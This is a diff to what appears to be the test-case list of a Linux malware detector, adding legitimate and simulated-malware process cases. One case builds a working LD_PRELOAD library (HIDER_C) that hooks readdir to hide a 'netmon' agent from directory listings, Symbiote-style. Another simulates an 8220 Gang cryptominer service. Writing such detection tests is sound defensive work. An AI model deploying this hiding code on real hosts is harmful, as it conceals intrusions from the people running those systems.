@@ -402,6 +402,13 @@ LEGIT = [
                env={"HOME": "/home/backup", "LOGNAME": "backup", "PATH": "/usr/bin:/bin", "SHELL": "/bin/sh",
                     "RESTIC_PASSWORD_FILE": "/home/backup/.restic-pass"})],
          setup=["printf '15 3 * * * backup /home/backup/bin/restic backup /srv\\n' >/etc/cron.d/restic"]),
+    Case("jmx_poller", "legit",
+         "a monitoring agent of its own polling Java services' JMX port 9999, also a pool port",
+         [Proc("/usr/local/bin/jmx-poller", f"client --tcp {P(3, 40)} 9999 1 --tcp {P(3, 41)} 9999 1",
+               ["/usr/local/bin/jmx-poller", "--config", "/etc/jmx-poller.yml"], uid=994,
+               cgroup="system.slice/jmx-poller.service", env=service_env("jmx-poller"))],
+         setup=unit_file("jmx-poller", "/usr/local/bin/jmx-poller --config /etc/jmx-poller.yml", "jmx"),
+         quick=True),
     Case("minecraft_tmux", "legit", "a Minecraft server on its own JDK in the mc user's home, under tmux",
          [Proc("/home/mc/jdk-21.0.1/bin/java", "client --listen 0.0.0.0 25565",
                ["java", "-Xmx6G", "-jar", "paper-1.20.4.jar", "nogui"], uid=1003,
@@ -410,6 +417,19 @@ LEGIT = [
 ]
 
 ROOT_ENV = user_env("root", "/root")
+# libprocesshider's idea, as Symbiote does it: the agent's entries vanish from directory listings.
+HIDER_C = r"""#define _GNU_SOURCE
+#include <dirent.h>
+#include <dlfcn.h>
+#include <string.h>
+struct dirent *readdir(DIR *d) {
+    static struct dirent *(*real)(DIR *);
+    if (!real) real = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
+    struct dirent *e;
+    while ((e = real(d)) && strstr(e->d_name, "netmon")) {}
+    return e;
+}
+"""
 INTRUDER = "user.slice/user-0.slice/session-3.scope"  # a root SSH login: how most drops start
 
 MALWARE = [
@@ -502,10 +522,13 @@ MALWARE = [
          "a Symbiote-style backdoor: LD_PRELOAD of a hiding library, an unpackaged agent in /usr/local/bin",
          [Proc("/usr/local/bin/netmon", f"client --tcp {P(4, 18)} 443 1", ["/usr/local/bin/netmon", "-d"],
                cgroup=INTRUDER, env=dict(ROOT_ENV, LD_PRELOAD="/usr/local/lib/libnetstat.so"))],
-         setup=["mkdir -p /usr/local/lib && cp /usr/lib/x86_64-linux-gnu/libdl.so.2 /usr/local/lib/libnetstat.so"], quick=True),
+         setup=["mkdir -p /usr/local/lib", f"cat >/tmp/hide.c <<'EOF'\n{HIDER_C}EOF",
+                "cc -shared -fPIC -O2 -o /usr/local/lib/libnetstat.so /tmp/hide.c -ldl", "rm /tmp/hide.c"],
+         quick=True),
     Case("systemd_miner_8220", "malware",
          "8220 Gang: a miner installed as a systemd service (sysupdate), mining to a pool on 3333",
-         [Proc("/usr/local/bin/sysupdate", f"client --tcp {P(4, 19)} 3333 1", ["/usr/local/bin/sysupdate"],
+         [Proc("/usr/local/bin/sysupdate", f"client --tcp {P(4, 19)} 3333 1 --burn 2",
+               ["/usr/local/bin/sysupdate"],
                cgroup="system.slice/sysupdate.service", env=service_env("sysupdate"))],
          setup=unit_file("sysupdate", "/usr/local/bin/sysupdate"), quick=True),
 ]
